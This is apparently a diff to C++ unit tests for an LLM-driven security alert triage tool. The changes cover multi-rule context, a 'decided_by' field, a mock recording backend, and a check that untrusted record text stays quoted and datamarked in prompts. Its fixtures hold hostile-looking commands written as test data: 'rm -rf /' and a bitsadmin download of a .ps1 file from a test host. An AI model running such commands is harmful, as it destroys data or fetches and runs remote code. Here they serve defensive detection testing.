@@ -8,6 +8,7 @@
 
 #include <algorithm>
 #include <memory>
+#include <mutex>
 #include <set>
 
 #include "base/error.h"
@@ -88,11 +89,12 @@ TEST(TriagePrompt, SpotlightModesAndContextAndRule) {
   TriageOptions o;
   o.spotlight = Spotlight::Datamark;
   TriageInput in = input(R"({"odd key<": "rm -rf /  now"})");
-  in.rule = RuleContext{"r-1", "Suspicious rm", "high", "Deletes everything", {"attack.t1485", "attack.impact"}};
+  in.rules = {RuleContext{"r-1", "Suspicious rm", "high", "Deletes everything", {"attack.t1485", "attack.impact"}, "", {}}};
   TriagePrompt p = build_triage_prompt(in, "web01 is a build server\nbackups run at 02:00", o);
   EXPECT_EQ(span_text(p, *find_span(p, "odd key<", true)), R"("odd key\u003c")");
   EXPECT_EQ(span_text(p, *find_span(p, "odd key<")), "\"rm\xCB\x86-rf\xCB\x86/\xCB\x86\xCB\x86now\"");
-  EXPECT_EQ(span_text(p, *find_span(p, "rule.tags")), "\"attack.t1485,\xCB\x86" "attack.impact\"");
+  // Rule text is the user's own reference: as written, not quoted or datamarked.
+  EXPECT_EQ(span_text(p, *find_span(p, "rules[0].tags")), "attack.t1485, attack.impact");
   const TriageSpan* ctx = find_span(p, "site_context");
   ASSERT_NE(ctx, nullptr);
   EXPECT_EQ(ctx->message, 0u);
@@ -156,7 +158,7 @@ TEST(TriageResultLine, CarriesEverything) {
   EXPECT_EQ(r.to_json().dump(),
             R"({"id":"a:1","verdict":"suspicious","confidence":0.5,"techniques":["T1110"],"rationale":"many failures",)"
             R"("next_steps":["check the source"],"prompt_tokens":300,"answer_tokens":40,"truncated_fields":2,)"
-            R"("omitted_fields":0})");
+            R"("omitted_fields":0,"decided_by":"model"})");
   TriageResult bad;
   bad.id = "a:2";
   bad.error = "unparseable answer: the answer is not JSON";
@@ -165,6 +167,82 @@ TEST(TriageResultLine, CarriesEverything) {
   EXPECT_TRUE(j["verdict"].is_null());
   EXPECT_EQ(j["error"], bad.error);
   EXPECT_EQ(j["answer"], "hello");
+}
+
+// A backend that records what it is asked and answers with a fixed verdict.
+class RecordingBackend : public ChatBackend {
+ public:
+  ChatResult complete(const ChatRequest& r) override {
+    std::lock_guard<std::mutex> lock(mutex);
+    requests.push_back(r);
+    ChatResult out;
+    out.content = R"({"verdict": "malicious", "confidence": 0.8, "techniques": ["T1197"], "rationale": "r", "next_steps": []})";
+    out.prompt_tokens = 100;
+    out.completion_tokens = 20;
+    return out;
+  }
+  void prepare(const std::vector<ChatRequest>&) override {}
+  ojson identity() const override { return "recording"; }
+  ojson settings() const override { return ojson::object(); }
+  int concurrency() const override { return 1; }
+  std::mutex mutex;
+  std::vector<ChatRequest> requests;
+};
+
+TEST(TriageHybrid, RulesDecideQuietEventsAndEveryFiredRuleGoesInOnePrompt) {
+  RecordingBackend backend;
+  TriageOptions o;
+  TriageInput quiet = input(R"({"EventID": 4624})", "e:1");
+  quiet.screened = true;
+  const TriageResult q = triage_input(backend, quiet, "", o);
+  EXPECT_EQ(q.decided_by, "rules");
+  ASSERT_TRUE(q.verdict);
+  EXPECT_EQ(q.verdict->verdict, "benign");
+  EXPECT_TRUE(q.error.empty());
+  EXPECT_TRUE(q.to_json()["confidence"].is_null());
+  EXPECT_EQ(q.to_json()["prompt_tokens"], 0);
+  EXPECT_TRUE(backend.requests.empty());
+
+  TriageInput unreadable = input(R"({"x": 1})", "e:2");
+  unreadable.screened = true;
+  unreadable.screen_problem = "no EventID";
+  const TriageResult u = triage_input(backend, unreadable, "", o);
+  EXPECT_EQ(u.decided_by, "rules");
+  EXPECT_FALSE(u.verdict);
+  EXPECT_NE(u.error.find("no EventID"), std::string::npos);
+  EXPECT_TRUE(backend.requests.empty());
+
+  TriageInput fired = input(R"({"EventID": 1, "CommandLine": "bitsadmin /transfer x http://e.test/a.ps1"})", "e:3");
+  fired.screened = true;
+  fired.rules = {RuleContext{"id-a", "Bitsadmin Download", "high", "Downloads with bitsadmin", {"attack.t1197"},
+                             "A. Author", {"Admin scripts"}},
+                 RuleContext{"id-b", "Suspicious Download", "medium", "", {}, "", {}}};
+  const TriageResult f = triage_input(backend, fired, "", o);
+  EXPECT_EQ(f.decided_by, "model");
+  EXPECT_EQ(f.rules, (std::vector<std::string>{"id-a", "id-b"}));
+  EXPECT_EQ(f.to_json()["rules"], ojson::array({"id-a", "id-b"}));
+  ASSERT_EQ(backend.requests.size(), 1u);
+  const std::string user = backend.requests[0].messages[1]["content"];
+  EXPECT_NE(user.find("2 detection rules from the analyst's rule set fired"), std::string::npos);
+  EXPECT_NE(user.find("<rule>\nid: id-a\ntitle: Bitsadmin Download\nlevel: high\ndescription: Downloads with "
+                      "bitsadmin\ntags: attack.t1197\nauthor: A. Author\nfalsepositives: Admin scripts\n</rule>\n"
+                      "<rule>\nid: id-b\ntitle: Suspicious Download\nlevel: medium\n</rule>"),
+            std::string::npos)
+      << user;
+  // The rules come before the record, which stays quoted untrusted data.
+  EXPECT_LT(user.find("</rule>"), user.find("<record>"));
+  EXPECT_NE(user.find(R"(CommandLine: "bitsadmin /transfer x http://e.test/a.ps1")"), std::string::npos);
+}
+
+TEST(TriageHybrid, AnInputAlertCarriesItsOwnRuleIdInBothLayouts) {
+  RecordingBackend backend;
+  TriageOptions o;
+  EXPECT_EQ(triage_input(backend, input(R"({"rule_id": "r-flat", "source": "f", "record": 3})"), "", o).rules,
+            std::vector<std::string>{"r-flat"});
+  EXPECT_EQ(triage_input(backend, input(R"({"rule": {"id": "r-nested"}, "source": {"file": "f", "record": 3}})"), "", o)
+                .rules,
+            std::vector<std::string>{"r-nested"});
+  EXPECT_TRUE(triage_input(backend, input(R"({"EventID": 1})"), "", o).rules.empty());
 }
 
 // ---- on the real Qwen3 tokenizer and the fixture model ----
@@ -228,7 +306,7 @@ TEST_F(TriageOnFixture, NoControlTokenFromAnyRecordText) {
       TriageInput in;
       in.id = s;
       in.record = record;
-      in.rule = RuleContext{"r", s, s, "desc " + s, {s}};
+      in.rules = {RuleContext{"r", s, s, "desc " + s, {s}, s, {s}}};
       expect_no_control_tokens(build_triage_prompt(in, "site " + s + " context", o), s);
       ++prompts;
     }
